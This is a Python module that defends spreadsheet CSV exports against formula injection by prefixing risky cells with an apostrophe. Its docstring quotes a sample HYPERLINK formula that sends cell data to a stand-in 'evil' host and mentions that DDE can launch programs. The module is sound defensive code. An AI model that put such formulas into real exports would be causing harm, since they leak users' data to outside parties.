"""CSV meant to be opened in a spreadsheet: a cell that would start a formula stays text.

Lead titles, partner names, notification fields and the like come from the public (a lead's title
is whatever a visitor typed into a site's form). Excel, LibreOffice and Google Sheets evaluate a
cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and some also after a leading tab
or carriage return: ``=HYPERLINK("https://evil/?"&A1, "…")`` carries the sheet away, DDE runs a
program. Following OWASP's "CSV injection" advice, such a cell gets a leading apostrophe, which
every spreadsheet shows as text and nothing evaluates. Every CSV export of the platform writes its
rows through `SpreadsheetSafeWriter`, so no export can forget it.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# A plain decimal number ("-5", "-1500.00") is never a formula: it stays a number in the sheet, so
# numeric columns keep their meaning. "-1+2" or "-A1" are not plain numbers and are neutralised.
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")
NEUTRALISER = "'"


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def spreadsheet_cell(value: object) -> str:
    """``value`` as CSV text a spreadsheet shows as is (``None`` is the empty cell)."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return NEUTRALISER + text
    return text


class SpreadsheetSafeWriter:
    """`csv.writer` whose every cell goes through `spreadsheet_cell` first."""

    def __init__(self, out: _Writable) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)
